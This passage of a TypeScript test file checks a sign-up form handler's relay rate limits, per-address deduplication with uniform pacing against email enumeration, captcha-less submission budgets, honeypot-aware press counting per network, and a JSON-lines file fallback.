  it("the global relay ceiling protects the webhook with 429", async () => {
    freezeClock();
    const signup = makeSignup({ RELAY_LIMIT_PER_SECOND: "2" });
    const statuses = [];
    for (const email of ["a@exemplo.com", "b@exemplo.com", "c@exemplo.com"]) {
      statuses.push((await submit(signup, { email, hcaptchaToken: token() })).status);
    }
    expect(statuses).toEqual([200, 200, 429]);
    expect(standIn.received.webhook).toHaveLength(2);
  });
});

describe("one relay per address a day", () => {
  it("the same address with a new captcha is answered success, in the same words, and not relayed again", async () => {
    const signup = makeSignup();
    const first = await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: token() });
    const second = await submit(signup, { email: "Ana@Exemplo.com.br", hcaptchaToken: token() });
    expect({ status: second.status, result: second.result }).toEqual({ status: first.status, result: first.result });
    expect(standIn.relayedEmails()).toEqual(["ana@exemplo.com.br"]);
    expect(JSON.parse(logs[1]!)).toMatchObject({ outcome: "known-email", status: 200 });
  });

  it("a listed address is answered when a new one would be, by an instance that relayed nothing yet too: after the automation's 600 ms, in the same words", async () => {
    freezeClock();
    standIn.webhook = { status: 200, hold: true };
    const paced = vi.spyOn(RelayPace.prototype, "waitFrom");
    const state = memoryState();
    const signup = makeSignup({}, state);
    const newAddress = submit(signup, { email: "listada@exemplo.com.br", hcaptchaToken: token() });
    await standIn.arrived("webhook");
    vi.advanceTimersByTime(600);
    standIn.releaseWebhook();
    const asNew = await newAddress;
    let answered = false;
    // Another instance, or this one restarted: the pace is the deployment's, not the process's.
    const listed = submit(makeSignup({}, state), { email: "listada@exemplo.com.br", hcaptchaToken: token() }).then(
      (answer) => {
        answered = true;
        return answer;
      },
    );
    while (paced.mock.calls.length === 0) await new Promise((resolve) => setImmediate(resolve));
    await vi.advanceTimersByTimeAsync(599);
    expect(answered).toBe(false);
    await vi.advanceTimersByTimeAsync(1);
    const { status, result } = await listed;
    expect({ status, result }).toEqual({ status: asNew.status, result: asNew.result });
  });

  it("once the question's budget is spent, a listed address is refused like a new one", async () => {
    vi.useFakeTimers({ toFake: ["Date"] });
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const answer = async (email: string, ip: string) => {
      const fields = { email, ...answering(signup.formTokens().question) };
      vi.advanceTimersByTime(1_000);
      const { status, result } = await submit(signup, fields, at(ip));
      return [status, result.notice.title];
    };
    for (let index = 0; index < QUESTION_RELAYS_PER_MINUTE; index++)
      expect(await answer(`lista${index}@exemplo.com`, `203.0.113.${index}`)).toEqual([200, SUCCESS.title]);
    const refused = [429, "Muitos cadastros sem captcha"];
    expect(await answer("lista0@exemplo.com", "198.51.100.1")).toEqual(refused);
    expect(await answer("ninguem@exemplo.com", "198.51.100.2")).toEqual(refused);
  });
});

describe("presses of 'Cadastrar' (what PrevlyFormBroken counts)", () => {
  it("count once per network (IPv4 address, IPv6 /48) an hour, whatever the bot trap made of them; a post without the form's fields, never", async () => {
    freezeClock();
    const signup = makeSignup({ TRUST_PROXY: "1" });
    const fields = { email: "ana@exemplo.com.br", hcaptchaToken: "" };
    const press = async (ip: string, form = formFields(fields)) => (await signup.handle(post(form, at(ip)))).pressed;
    const bot = { ...formFields(fields), name__confirm: "Robô" };
    expect([
      await press("2001:db8:5:1::1"),
      await press("2001:db8:5:2::1"),
      await press("203.0.113.7"),
      await press("203.0.113.8", bot),
      await press("203.0.113.9", fields),
    ]).toEqual([true, false, true, true, false]);
    vi.advanceTimersByTime(60 * 60_000);
    expect(await press("2001:db8:5:3::1")).toBe(true);
  });
});

describe("the embedded default: a JSON-lines file when no webhook is configured", () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "signups-"));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it("appends one line per sign-up, creating the folder", async () => {
    const file = join(dir, "nested", "signups.jsonl");
    const signup = makeSignup({ WEBHOOK_URL: "", SIGNUPS_FILE: file });
    await submit(signup, { email: "ana@exemplo.com.br", hcaptchaToken: "tok-1" });
    await submit(signup, { email: "bia@exemplo.com.br", hcaptchaToken: "tok-2" });
    const lines = (await readFile(file, "utf8")).split("\n");
    expect(lines.pop()).toBe("");
    expect(lines.map((line) => JSON.parse(line))).toEqual([
      expect.objectContaining({
        email: "ana@exemplo.com.br",
        hcaptchaToken: "tok-1",
        source: "prevly-landing",
        userAgent: USER_AGENT,
      }),
      expect.objectContaining({ email: "bia@exemplo.com.br", hcaptchaToken: "tok-2" }),
    ]);
    expect(Object.keys(JSON.parse(lines[0]!))).toEqual(["email", "hcaptchaToken", "source", "ts", "userAgent"]);
    expect(standIn.received.webhook).toHaveLength(0);
  });

  it("keeps every line whole when many sign-ups arrive at once", async () => {
    const file = join(dir, "signups.jsonl");
    const signup = makeSignup({ WEBHOOK_URL: "", SIGNUPS_FILE: file, RELAY_LIMIT_PER_SECOND: "1000" });
    await Promise.all(
      Array.from({ length: 40 }, (_, index) =>
        submit(signup, { email: `p${index}@exemplo.com`, hcaptchaToken: `t${index}` }),
      ),
    );
    const emails = (await readFile(file, "utf8"))
      .trim()
      .split("\n")
      .map((line) => (JSON.parse(line) as { email: string }).email);
    expect(new Set(emails).size).toBe(40);
  });
});
